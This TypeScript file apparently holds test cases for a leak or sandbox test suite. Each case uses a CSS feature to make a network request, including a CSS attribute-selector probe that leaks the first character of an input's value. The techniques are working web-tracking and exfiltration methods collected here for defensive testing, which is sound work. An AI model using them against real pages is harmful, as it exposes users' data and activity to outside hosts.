import type { Attack } from '../attack';

const rule = (name: string, declaration: string): Attack => ({
  name: `css-${name}`,
  run: `put('<p class="' + NAME + '">x</p>');
css('.' + NAME + '{' + ${declaration} + '}');`,
});

const url = (file = 'x.png') => `'url(' + hit('${file}') + ')`;

/** Style sheets ask the network for pictures, fonts and more style. */
export const css: Attack[] = [
  { name: 'css-import', run: "css('@import url(' + hit('x.css') + ');');" },
  {
    name: 'css-link',
    run: "add('link', { rel: 'stylesheet', href: hit('x.css') }, document.head);",
  },
  rule('background', `'background:' + ${url()}'`),
  rule('image-set', `'background:image-set(' + ${url()} 1x)'`),
  {
    name: 'css-cursor',
    run: "document.documentElement.style.cursor = 'url(' + hit('x.png') + '), auto';",
    staysMs: 400,
  },
  rule('list-style', `'display:list-item;list-style-image:' + ${url()}'`),
  rule('border-image', `'border:9px solid;border-image:' + ${url()} 9'`),
  rule('mask', `'mask:' + ${url()}'`),
  rule('clip-path', `'clip-path:' + ${url('x.svg#f')}'`),
  rule('shape-outside', `'float:left;shape-outside:' + ${url()}'`),
  {
    name: 'css-content',
    run: "put('<p class=\"content-leak\">x</p>'); css('.content-leak::after{content:url(' + hit('x.png') + ')}');",
  },
  {
    name: 'css-variable',
    run: "put('<p class=\"variable-leak\">x</p>'); css('.variable-leak{--u:url(' + hit('x.png') + ');background:var(--u)}');",
  },
  {
    name: 'css-adopted-sheet',
    run: `const sheet = new CSSStyleSheet();
put('<p class="adopted-leak">x</p>');
sheet.replaceSync('.adopted-leak{background:url(' + hit('x.png') + ')}');
document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];`,
  },
  {
    name: 'css-reads-attributes',
    run: `put('<input value="secret">');
css('input[value^="s"]{background:url(' + hit('starts-with-s.png') + ')}');`,
  },
  {
    name: 'css-font-face',
    run: `css('@font-face{font-family:Leak;src:url(' + hit('x.woff2') + ')}');
put('<p style="font-family:Leak">x</p>');`,
  },
  {
    name: 'font-face-object',
    run: "await new FontFace('Leak', 'url(' + hit('x.woff2') + ')').load();",
  },
  { name: 'paint-worklet', run: "await CSS.paintWorklet.addModule(hit('x.js'));" },
];
